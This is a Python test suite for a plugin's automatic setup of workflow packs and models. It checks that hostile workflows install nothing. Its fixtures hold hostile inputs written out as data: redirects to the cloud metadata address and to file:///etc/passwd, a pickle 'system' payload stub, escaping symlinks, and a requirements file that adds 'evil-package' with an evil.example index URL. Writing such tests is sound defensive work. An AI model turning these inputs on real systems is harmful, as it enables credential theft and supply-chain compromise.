"""Workflow files of attackers: each through the plan, everything that the plan offers approved, then installed.

`hostile/NAME.json` holds the workflow and what is expected: the reason of the refusal, `no line`, `FAILS why` for what
can only be found out after it was approved, `UNAPPROVED` for what takes an approval of its own. HOST stands for a host
that the environment allows.
"""

import asyncio
import json
import shutil
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from plugin.autosetup import download, packs
from plugin.autosetup.fetch import Fetcher
from plugin.autosetup.job import SetupJob, approve
from plugin.autosetup.lines import PackLine
from plugin.autosetup.packages import Requirements
from plugin.autosetup.plan import make_plan
from tests.plugin.autosetup.small_machine import SmallMachine
from tests.support.autosetup_hosts import Host, Served, commit, safetensors

FILES = sorted((Path(__file__).parent / "hostile").glob("*.json"))


@pytest.fixture
def trap(host: Host, machine: SmallMachine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A machine with things to lose, and a host with bad manners. Returns a folder that must stay empty."""
    loras = machine.models_root / "loras"
    loras.mkdir()
    (loras / "mine.safetensors").write_bytes(b"mine")
    outside = tmp_path / "outside"
    outside.mkdir()
    (loras / "out").symlink_to(outside)
    (loras / "dangling.safetensors").symlink_to(outside / "x")
    (machine.custom_nodes[0] / "ComfyUI-Runflow").mkdir()
    commit(host.repositories / "Pack", {"__init__.py": "1"})
    for kind in ("", "/info/refs"):
        host.redirects[f"/redirect-metadata{kind}"] = "https://169.254.169.254/a"
        host.redirects[f"/redirect-file{kind}"] = "file:///etc/passwd"
        host.redirects[f"/redirect-other{kind}"] = "https://93.184.216.34/x"
        host.redirects[f"/redirect-round{kind}"] = f"/redirect-round{kind}"
        host.files[f"/page{kind}"] = Served(b"<html>log in", content_type="text/html")
    host.files["/good.safetensors"] = Served(safetensors(1000))
    host.files["/text.safetensors"] = Served(b"import os")
    host.files["/pickle.ckpt"] = Served(b"cos\nsystem")
    host.files["/huge.safetensors"] = Served(safetensors(1000), announces=1 << 60)
    usage = SimpleNamespace(total=1 << 40, used=0, free=1 << 40)
    monkeypatch.setattr(shutil, "disk_usage", lambda _folder: usage)
    monkeypatch.setattr(download, "_FIRST_PAUSE_SECONDS", 0.01)
    return outside


def read(path: Path, host: Host) -> tuple[str, dict[str, Any]]:
    case = json.loads(path.read_text().replace("HOST/", f"{host.url}/"))
    return case["expected"], case["workflow"]


@pytest.mark.parametrize("path", FILES, ids=lambda path: path.stem)
async def test_a_hostile_workflow_gets_nothing(
    path: Path, host: Host, fetcher: Fetcher, machine: SmallMachine, trap: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    expected, graph = read(path, host)
    before = machine.everything()
    plan = await make_plan(graph, (), machine, fetcher, None, packs=True, models=True)
    assert json.loads(json.dumps(plan.to_dict()))  # the page can be told
    assert machine.everything() == before, "a plan puts nothing anywhere"
    lines = list(plan.lines.values())
    assert "secret" not in json.dumps(plan.to_dict()), "what is in the file need not be on the screen"
    offered = [line for line in lines if line.refused is None]
    if expected == "no line":
        assert lines == []
    elif expected == "UNAPPROVED":
        assert [line.name for line in offered] == ["loras/x.ckpt"]
        assert approve(lines, plan.lines, ()) == []
    elif not expected.startswith("FAILS "):
        assert lines, "the plan says nothing"
        assert offered == []
        assert any(expected in (line.refused or "") for line in lines), [line.refused for line in lines]

    async def agree(*_arguments: Any) -> None:
        raise AssertionError("packages were installed")

    monkeypatch.setattr(packs, "install", agree)
    job = SetupJob(approve(lines, plan.lines, ()), fetcher.sources)
    job.start()
    assert job.task is not None
    await job.task
    assert all(item.state == "failed" for item in job.items.values())
    if expected.startswith("FAILS "):
        assert any(expected.removeprefix("FAILS ") in (item.error or "") for item in job.items.values())
    assert machine.everything() == before
    assert list(trap.iterdir()) == []
    assert not Path("/tmp/runflow-owned").exists()


def test_the_corpus_is_there() -> None:
    assert len(FILES) > 80


async def test_a_pack_that_was_approved_may_not_bring_other_packages(
    host: Host, fetcher: Fetcher, machine: SmallMachine, tmp_path: Path
) -> None:
    """The manifest announces numpy; the repository asks for more: the person is asked again, and says no."""
    evil = {"__init__.py": "1", "requirements.txt": "numpy\nevil-package\n--index-url https://evil.example\n"}
    head = commit(host.repositories / "Pack", evil)
    row = {"origin": f"{host.url}/Pack", "commit": head, "dependencies": ["numpy"]}
    graph = {"nodes": [{"type": "Evil"}], "extra": {"runflow": {"custom_nodes": {"Pack": row}}}}
    plan = await make_plan(graph, (), machine, fetcher, None, packs=True, models=True)
    (line,) = plan.lines.values()
    assert isinstance(line, PackLine)
    assert line.expected == Requirements(("numpy",), ())
    job = SetupJob([line], fetcher.sources)
    job.start()
    item = job.items[line.id]
    while item.state != "asking":
        assert job.task is not None
        assert not job.task.done(), item.error
        await asyncio.sleep(0.01)
    assert item.describe()["asks"] == {
        "packages": ["numpy", "evil-package"],
        "left_out": ["--index-url https://evil.example"],
    }
    assert job.answer(line.id, approved=False)
    assert not job.answer(line.id, approved=True)
    assert job.task is not None
    await job.task
    assert item.state == "left_out"
    assert machine.everything() == set()
